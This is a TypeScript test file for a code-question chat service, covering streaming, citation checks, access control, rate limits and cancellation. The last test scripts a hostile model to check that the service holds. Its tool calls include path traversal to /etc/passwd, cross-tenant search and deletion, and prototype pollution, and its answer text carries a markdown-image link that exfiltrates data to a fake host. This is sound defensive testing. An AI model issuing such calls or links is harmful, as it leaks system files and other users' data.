import type { ChatSession } from "@cairn/contract/chat";
import { applyOperation, type MessageOperation } from "@cairn/contract/chat-events";
import { notFound } from "@cairn/contract/errors";
import type { Source } from "@cairn/contract/sources";
import { and, eq } from "drizzle-orm";
import { afterAll, beforeAll, expect, it } from "vitest";
import { z } from "zod";

import { updateIndex } from "#server/code-index/update/update-index.ts";
import type { Ctx } from "#server/ctx.ts";
import { cancelAnswer } from "#server/domain/chat/session/cancel-answer.ts";
import { createChatStreams, type ChatStreamEvent, type ChatStreams } from "#server/domain/chat/session/chat-streams.ts";
import { deleteChat } from "#server/domain/chat/session/delete-chat.ts";
import { getChat } from "#server/domain/chat/session/get-chat.ts";
import { listChats } from "#server/domain/chat/session/list-chats.ts";
import { deleteArtifact } from "#server/domain/pages/catalog/delete-artifact.ts";
import { openCodebases } from "#server/domain/search/open-codebases.ts";
import { searchTools } from "#server/domain/search/search.tools.ts";
import { defineTool } from "#server/edge.ts";
import { hashLines, toLines } from "#server/engine/evidence/evidence.ts";
import { members } from "#server/platform/db/tables/organizations.ts";
import { createMirrorSource } from "#server/platform/git/mirror-source.ts";
import { cloneMirror } from "#server/platform/git/remote/clone-mirror.ts";
import { ableModel } from "#server/platform/models/able-model.ts";
import { connectModel } from "#server/platform/models/connect-model.ts";
import type { ModelEvent, ModelPort } from "#server/platform/models/model-port.ts";
import { parseSettings } from "#server/platform/settings/parse-settings.ts";
import { startModelServer } from "#server/testing/fakes/model-server.ts";
import { createTestRepository } from "#server/testing/git-repository.ts";
import { makePage } from "#server/testing/make-page.ts";
import {
  createTestWorld,
  makeMember,
  makeProject,
  makeRepository,
  makeUser,
  type TestWorld,
} from "#server/testing/test-ctx.ts";

import { askOnce } from "./ask-once.ts";
import { ask } from "./ask.ts";

let world: TestWorld;
let project: Awaited<ReturnType<typeof makeProject>>;

const delay = `/** Minutes a boat is late; never negative. */
export function delayMinutes(planned: number, actual: number): number {
  return Math.max(0, actual - planned);
}
`;

beforeAll(async () => {
  world = await createTestWorld();
  project = await makeProject(world);
  await indexFiles({
    "src/delay.ts": delay,
    "README.md": "# Board\n\nShows which boat leaves next, and how late it is.\n",
  });
});
afterAll(() => world.close());

/** A repository of the project with these files, cloned and indexed for real. */
async function indexFiles(files: Record<string, string>, owner = project): Promise<void> {
  const repository = await createTestRepository();
  const commit = await repository.commit("First", files);
  const { repositoryId } = await makeRepository(world, owner, { path: repository.path });
  const directory = world.ctx.mirrors.directory(repositoryId);
  await cloneMirror({
    directory,
    remote: { kind: "path", path: repository.path },
    egress: world.ctx.egress,
    maxBytes: 10_000_000,
    signal: world.ctx.signal,
  });
  await updateIndex({
    directory: world.ctx.indexes.directory(repositoryId),
    source: createMirrorSource(directory),
    commit,
  });
  await repository.remove();
}

/** A page with one section that rests on these sources. */
async function makeCitingPage(
  owner: { organizationId: string; projectId: string },
  sources: Source[],
): Promise<string> {
  const { artifactId } = await makePage(world, owner, { sections: [{ content: "By tide.", sources }] });
  return artifactId;
}

const question = "How is the delay of a boat computed?";

function request(content = question, given: { sessionId?: string } = {}) {
  return {
    assistant: "organization-chat-assistant" as const,
    organizationId: project.organizationId,
    sessionId: given.sessionId ?? world.ctx.newId(),
    request: { type: "text" as const, content },
    context: { projectId: project.projectId, lens: "technical" as const },
  };
}

/** A question about lines that somebody marked, which are read before the model is asked. */
async function aboutDelay() {
  const [codebase] = await openCodebases(project.ctx, project);
  if (!codebase) throw new Error("not indexed");
  const selection = { repositoryId: codebase.repositoryId, path: "src/delay.ts", startLine: 1, endLine: 4 };
  const asked = request();
  return { ...asked, context: { ...asked.context, selection } };
}

/** Hears everything and can wait for the end of an answer. */
function hear(streams: ChatStreams) {
  const event: ChatStreamEvent[] = [];
  const waiting: { wanted: (one: ChatStreamEvent) => boolean; resolve: () => void }[] = [];
  streams.listen((one) => {
    event.push(one);
    for (const { wanted, resolve } of waiting) if (wanted(one)) resolve();
  });
  const until = async (wanted: (one: ChatStreamEvent) => boolean): Promise<void> => {
    if (event.some(wanted)) return;
    const { promise, resolve } = Promise.withResolvers<void>();
    waiting.push({ wanted, resolve });
    await promise;
  };
  const operations = (): MessageOperation[] =>
    event.flatMap((one) => (one.type === "operations" ? one.operations : []));
  return { events: event, until, operations, ended: () => until((one) => one.type !== "operations") };
}

function rebuild(operations: readonly MessageOperation[]): ChatSession {
  const empty = {
    sessionId: operations[0]?.sessionId ?? "",
    title: "",
    messages: [],
    data: null,
    context: { lens: "technical" as const },
    isStreaming: false,
    isComplete: false,
    isError: false,
    error: null,
    loadingText: null,
    updatedAt: "",
  };
  return operations.reduce<ChatSession>((session, operation) => applyOperation(session, operation), empty);
}

/** A model that says what the test lets through, piece by piece, and nothing to short tasks. */
function scriptedModel(): ModelPort & { say(event: ModelEvent | Error): void } {
  const queue: (ModelEvent | Error)[] = [];
  let wake = Promise.withResolvers<void>();
  return {
    name: "test-model",
    capabilities: async () => ableModel,
    say(event) {
      queue.push(event);
      wake.resolve();
    },
    async *stream({ signal, isQuick }) {
      if (isQuick) return;
      const stopped = new Promise<never>((_, reject) => {
        signal.addEventListener("abort", () => reject(signal.reason as Error), { once: true });
      });
      stopped.catch(() => undefined);
      while (true) {
        const event = queue.shift();
        if (event instanceof Error) throw event;
        if (event) yield event;
        if (event?.type === "finish") return;
        if (event) continue;
        await Promise.race([wake.promise, stopped]);
        wake = Promise.withResolvers();
      }
    },
  };
}

it("answers from the code, and GET equals all operations in order at every moment", async () => {
  const streams = createChatStreams();
  const received = hear(streams);
  const input = request();
  await ask(project.ctx, { ...input, streams, tools: [] });
  await received.ended();
  const session = await getChat(project.ctx, input);
  expect(rebuild(received.operations())).toEqual(session);
  expect(session).toMatchObject({ title: question, isStreaming: false, isComplete: true, isError: false, error: null });
  const answer = session.messages[1];
  expect(answer).toMatchObject({ role: "assistant", writtenBy: "Built-in engine", droppedCitations: 0 });
  expect(answer?.content).toContain("delayMinutes");
  expect(answer?.content).toMatch(/\[1\]/);
  expect(answer?.sources[0]).toMatchObject({ path: "src/delay.ts" });
  expect(answer?.thoughts[0]?.functionCalls.every(({ durationMs }) => durationMs !== null)).toBe(true);
});

it("never shows less by GET than a listener was told", async () => {
  const streams = createChatStreams();
  const model = scriptedModel();
  const ctx: Ctx = { ...project.ctx, model };
  const input = request();
  const received = hear(streams);
  await ask(ctx, { ...input, streams, tools: searchTools });
  for (const word of ["One", "two", "three", "four"]) {
    model.say({ type: "text", text: ` ${word}` });
    await received.until(
      (one) =>
        one.type === "operations" &&
        one.operations.some(({ value }) => typeof value === "string" && value.includes(word)),
    );
    const reported = rebuild(received.operations()).messages[1]?.content ?? "";
    expect((await getChat(ctx, input)).messages[1]?.content.startsWith(reported)).toBe(true);
  }
  model.say({ type: "finish", inputTokens: 1, outputTokens: 1 });
  await received.ended();
  expect((await getChat(ctx, input)).messages[1]).toMatchObject({
    content: " One two three four",
    writtenBy: "test-model",
  });
});

it("lists a new chat from the first moment, and says that it streams", async () => {
  const streams = createChatStreams();
  const model = scriptedModel();
  const input = request();
  const received = hear(streams);
  const listed = async () => {
    const { content } = await listChats(project.ctx, { ...input, projectId: project.projectId, page: 1, limit: 5 });
    return content.find(({ sessionId }) => sessionId === input.sessionId);
  };
  await ask({ ...project.ctx, model }, { ...input, streams, tools: [] });
  expect(await listed()).toMatchObject({ title: question, isStreaming: true, isError: false });
  model.say({ type: "finish", inputTokens: 1, outputTokens: 1 });
  await received.ended();
  expect(await listed()).toMatchObject({ isStreaming: false });
});

it("looks first where the page stands that it is asked from, and goes on without a page that was deleted since", async () => {
  const owner = await makeProject(world);
  const tide = "/** Minutes of delay the tide adds. */\nexport function tideDelay(): number {\n  return 3 * 2;\n}\n";
  await indexFiles({ "src/delay.ts": delay, "src/tide.ts": tide }, owner);
  const [codebase] = await openCodebases(owner.ctx, owner);
  if (!codebase) throw new Error("not indexed");
  const hash = hashLines(toLines(tide).slice(0, 2));
  const { repositoryId, index } = codebase;
  const source = { repositoryId, path: "src/tide.ts", startLine: 1, endLine: 2, commit: index.commit, hash };
  const { organizationId, projectId } = owner;
  const { sessionId } = request();
  const lastAnswer = async (artifactId: string) => {
    const streams = createChatStreams();
    const received = hear(streams);
    const context = { projectId, lens: "technical" as const, artifactId };
    const input = { ...request("How is the delay computed?"), sessionId, organizationId, context };
    await ask(owner.ctx, { ...input, streams, tools: [] });
    await received.ended();
    return (await getChat(owner.ctx, input)).messages.at(-1);
  };
  const lastSource = async (artifactId: string) => (await lastAnswer(artifactId))?.sources[0]?.path;
  const artifactId = await makeCitingPage(owner, [source]);
  expect(await lastSource(artifactId)).toBe("src/tide.ts");
  await deleteArtifact(owner.ctx, { organizationId, artifactId });
  expect(await lastSource(artifactId)).toBe("src/delay.ts");
  const section = { title: "Tide", content: "By tide.", sources: [source], isChanged: true };
  const { artifactId: stale } = await makePage(world, owner, { sections: [section] });
  expect((await lastAnswer(stale))?.content).toMatch(/^\*The code changed since these parts .*: “Tide”\. This answer/);
  await expect(lastSource(await makeCitingPage(project, [source]))).rejects.toMatchObject({ code: "not_found" });
});

it("checks a model's citations against the code and drops what names nothing", async () => {
  const streams = createChatStreams();
  const model = scriptedModel();
  const received = hear(streams);
  const input = await aboutDelay();
  await ask({ ...project.ctx, model }, { ...input, streams, tools: searchTools });
  model.say({ type: "text", text: "It is `actual - planned` [1], or else [7" });
  model.say({ type: "text", text: "7].\u0000" });
  model.say({ type: "finish", inputTokens: 1, outputTokens: 1 });
  await received.ended();
  const answer = (await getChat(project.ctx, input)).messages[1];
  expect(answer?.content).toBe("It is `actual - planned` [1], or else.\uFFFD");
  expect(answer?.sources).toHaveLength(1);
  expect(answer?.droppedCitations).toBe(1);
});

it("keeps a chat to the product it was begun about", async () => {
  const other = await makeProject(world, project.organization);
  const streams = createChatStreams();
  const received = hear(streams);
  const input = request();
  await ask(project.ctx, { ...input, streams, tools: [] });
  await received.ended();
  const before = await getChat(project.ctx, input);
  const elsewhere = { ...request("And there?", input), context: { ...input.context, projectId: other.projectId } };
  const refusal = { code: "conflict", message: "This chat is about another product. Ask in a new chat." };
  await expect(ask(project.ctx, { ...elsewhere, streams, tools: [] })).rejects.toMatchObject(refusal);
  expect(await getChat(project.ctx, input)).toEqual(before);
  expect(streams.countOf(project.owner.userId)).toBe(0);
});

it("shows no source of another product and none whose lines are not what it says", async () => {
  const streams = createChatStreams();
  const model = scriptedModel();
  const real = {
    path: "src/delay.ts",
    startLine: 1,
    endLine: 1,
    commit: "",
    hash: hashLines(toLines(delay).slice(0, 1)),
  };
  const [codebase] = await openCodebases(project.ctx, project);
  if (!codebase) throw new Error("not indexed");
  const { repositoryId, index } = codebase;
  const own = { ...real, repositoryId, commit: index.commit };
  const sources = [
    { ...own, repositoryId: world.ctx.newId() },
    { ...own, hash: "0".repeat(64) },
    { ...own, endLine: 99 },
    own,
  ];
  const liar = defineTool({
    name: "read_file",
    description: "Lies",
    verb: "Lying",
    input: z.object({ path: z.string() }),
    run: async () => ({ text: "found", data: { sources } }),
  });
  const received = hear(streams);
  const input = await aboutDelay();
  await ask({ ...project.ctx, model }, { ...input, streams, tools: [liar] });
  model.say({ type: "text", text: "One [1]. Two [2]. Three [3]. Four [4]." });
  model.say({ type: "finish", inputTokens: 1, outputTokens: 1 });
  await received.ended();
  const answer = (await getChat(project.ctx, input)).messages[1];
  expect(answer).toMatchObject({ content: "One [1]. Two. Three. Four.", sources: [own], droppedCitations: 3 });
});

it("keeps the partial text after a failure until the same question is asked again", async () => {
  const streams = createChatStreams();
  const model = scriptedModel();
  const received = hear(streams);
  const input = request();
  await ask({ ...project.ctx, model }, { ...input, streams, tools: [] });
  model.say({ type: "text", text: "Half an ans" });
  model.say(new Error("secret internals"));
  await received.ended();
  expect(received.events.at(-1)).toMatchObject({ type: "failed", message: "An unknown error occurred" });
  const failed = await getChat(project.ctx, input);
  expect(failed).toMatchObject({ isError: true, error: "An unknown error occurred", isStreaming: false });
  expect(failed.messages[1]?.content).toBe("Half an ans");
  const again = hear(streams);
  await ask(project.ctx, { ...input, streams, tools: [] });
  await again.ended();
  const session = await getChat(project.ctx, input);
  expect(session).toMatchObject({ isError: false, error: null, isComplete: true });
  expect(session.messages).toHaveLength(2);
  expect(session.messages[1]?.content).toContain("delayMinutes");
});

it("continues a chat: what was asked before gives `it` its meaning", async () => {
  const streams = createChatStreams();
  const input = request("How does delayMinutes work?");
  const first = hear(streams);
  await ask(project.ctx, { ...input, streams, tools: [] });
  await first.ended();
  const second = hear(streams);
  await ask(project.ctx, { ...request("Where is it?", input), streams, tools: [] });
  await second.ended();
  const session = await getChat(project.ctx, input);
  expect(session.messages).toHaveLength(4);
  expect(session.messages[3]?.content).toContain("src/delay.ts");
});

it("lets one of several questions at once start, and stops on demand", async () => {
  const streams = createChatStreams();
  const model = scriptedModel();
  const ctx: Ctx = { ...project.ctx, model };
  const input = request();
  const received = hear(streams);
  const requested = Array.from({ length: 4 }, () => ask(ctx, { ...input, streams, tools: [] }));
  const settled = await Promise.allSettled(requested);
  expect(settled.filter(({ status }) => status === "fulfilled")).toHaveLength(1);
  for (const one of settled) if (one.status === "rejected") expect(one.reason).toMatchObject({ code: "conflict" });
  await cancelAnswer(ctx, { sessionId: input.sessionId, streams });
  await received.ended();
  expect(received.events.at(-1)?.type).toBe("completed");
  expect(await getChat(ctx, input)).toMatchObject({ isStreaming: false, isComplete: true, isError: false });
});

it("gives one person five answers at once, however fast they ask", async () => {
  const streams = createChatStreams();
  const ctx: Ctx = { ...project.ctx, model: scriptedModel() };
  const requested = Array.from({ length: 8 }, () => ask(ctx, { ...request(), streams, tools: [] }));
  const settled = await Promise.allSettled(requested);
  expect(streams.running()).toHaveLength(5);
  for (const one of settled) if (one.status === "rejected") expect(one.reason).toMatchObject({ code: "rate_limited" });
  for (const { sessionId, ended } of streams.running()) {
    streams.cancel(sessionId);
    await ended;
  }
  await ask(ctx, { ...request(), streams, tools: [] });
  expect(streams.countOf(project.owner.userId)).toBe(1);
  await streams.stop();
});

it("stops the answer of another process through the database", async () => {
  const theirs = createChatStreams();
  const model = scriptedModel();
  const ctx: Ctx = { ...project.ctx, model };
  const input = request();
  const received = hear(theirs);
  await ask(ctx, { ...input, streams: theirs, tools: [] });
  await cancelAnswer(ctx, { sessionId: input.sessionId, streams: createChatStreams() });
  model.say({ type: "text", text: "too late" });
  await received.ended();
  const session = await getChat(ctx, input);
  expect(session).toMatchObject({ isStreaming: false, isComplete: true });
  expect(session.messages[1]?.content).toBe("");
  expect(JSON.stringify(received.operations())).not.toContain("too late");
});

it("is private to its user and gone for everybody once deleted", async () => {
  const streams = createChatStreams();
  const received = hear(streams);
  const input = request();
  await ask(project.ctx, { ...input, streams, tools: [] });
  await received.ended();
  const colleague = await makeUser(world);
  await makeMember(world, project.organizationId, colleague.userId, "owner");
  const missing = { code: "not_found", message: "Chat not found: The chat you are trying to access does not exist" };
  await expect(getChat(colleague.ctx, input)).rejects.toMatchObject(missing);
  await expect(ask(colleague.ctx, { ...input, streams, tools: [] })).rejects.toMatchObject(missing);
  await expect(deleteChat(colleague.ctx, { ...input, streams })).rejects.toMatchObject(missing);
  await expect(cancelAnswer(colleague.ctx, { sessionId: input.sessionId, streams })).rejects.toMatchObject(missing);
  const page = {
    assistant: "organization-chat-assistant" as const,
    page: 1,
    limit: 100,
    organizationId: project.organizationId,
  };
  expect((await listChats(colleague.ctx, page)).total).toBe(0);
  expect((await listChats(project.ctx, page)).content.map(({ sessionId }) => sessionId)).toContain(input.sessionId);
  await deleteChat(project.ctx, { ...input, streams });
  await expect(getChat(project.ctx, input)).rejects.toMatchObject(missing);
});

it("refuses strangers, foreign products and questions without a product", async () => {
  const streams = createChatStreams();
  const stranger = await makeUser(world);
  const foreign = await makeProject(world);
  await expect(ask(stranger.ctx, { ...request(), streams, tools: [] })).rejects.toMatchObject({ code: "not_found" });
  const mixed = { ...request(), context: { projectId: foreign.projectId, lens: "technical" as const } };
  await expect(ask(project.ctx, { ...mixed, streams, tools: [] })).rejects.toMatchObject({ code: "not_found" });
  const none = { ...request(), context: { lens: "technical" as const } };
  await expect(ask(project.ctx, { ...none, streams, tools: [] })).rejects.toMatchObject({ code: "invalid_input" });
});

it("cuts the answer of somebody who was removed, and tells them nothing more", async () => {
  const streams = createChatStreams();
  const model = scriptedModel();
  const member = await makeUser(world);
  await makeMember(world, project.organizationId, member.userId, "editor");
  const received = hear(streams);
  const input = request();
  await ask({ ...member.ctx, model }, { ...input, streams, tools: [] });
  const isMember = and(eq(members.organizationId, project.organizationId), eq(members.userId, member.userId));
  await world.ctx.db.delete(members).where(isMember);
  streams.recheck({ all: true });
  await received.until((one) => one.type === "revoked");
  model.say({ type: "text", text: "secret" });
  await streams.stop();
  expect(JSON.stringify(received.events)).not.toContain("secret");
  expect(streams.isRunning(input.sessionId)).toBe(false);
});

it("tells somebody nothing whose answer first finds out itself that they were removed", async () => {
  const streams = createChatStreams();
  const member = await makeUser(world);
  await makeMember(world, project.organizationId, member.userId, "editor");
  const received = hear(streams);
  const model = scriptedModel();
  const isMember = and(eq(members.organizationId, project.organizationId), eq(members.userId, member.userId));
  await ask({ ...member.ctx, model }, { ...request(), streams, tools: [] });
  await world.ctx.db.delete(members).where(isMember);
  model.say(notFound("Organization"));
  await received.ended();
  expect(received.events.at(-1)?.type).toBe("revoked");
});

it("stands a model that does what an attacker wants", async () => {
  const server = await startModelServer();
  const foreign = await makeProject(world);
  const call = (name: string, input: object) => ({ id: "same", name, arguments: JSON.stringify(input) });
  server.script([
    {
      kind: "tool-calls",
      calls: [
        call("read_file", { path: "../../../etc/passwd" }),
        call("search_code", { query: "delay", organizationId: foreign.organizationId, projectId: foreign.projectId }),
        call("delete_chat", { sessionId: foreign.projectId }),
        call("find_symbol", { name: "delayMinutes", __proto__: { polluted: true } }),
      ],
    },
    { kind: "text", pieces: ["It is late [1", "], or ![](http://127.0.0.66/?d=SECRET) [99]."] },
  ]);
  const models = parseSettings({
    MODEL_PROVIDER: "openai-compatible",
    MODEL_NAME: "evil",
    MODEL_BASE_URL: server.baseUrl,
  }).models;
  const streams = createChatStreams();
  const received = hear(streams);
  const input = request();
  await ask({ ...project.ctx, model: connectModel(models) }, { ...input, streams, tools: searchTools });
  await received.ended();
  const session = await getChat(project.ctx, input);
  expect(session).toMatchObject({ isComplete: true, isError: false });
  expect(session.messages[1]).toMatchObject({
    content: "It is late [1], or !\\[](http://127.0.0.66/?d=SECRET).",
    droppedCitations: 1,
  });
  expect(session.messages[1]?.sources).toHaveLength(1);
  const seen = JSON.stringify(server.requests.map(({ body }) => body.messages));
  expect(seen).toContain("The indexed commit holds no such file");
  expect(seen).not.toContain("root:");
  await server.close();
});

it("answers agents in one piece with sources and the commit they stand at", async () => {
  const agent = world.as({ kind: "agent", userId: project.owner.userId });
  const { organizationId, projectId } = project;
  const result = await askOnce(agent, { organizationId, projectId, question, lens: "technical", tools: [] });
  expect(result.text).toContain("delayMinutes");
  expect(result.data).toMatchObject({
    writtenBy: "Built-in engine",
    repositories: [{ commit: expect.any(String), indexedAt: expect.any(String) }],
  });
});
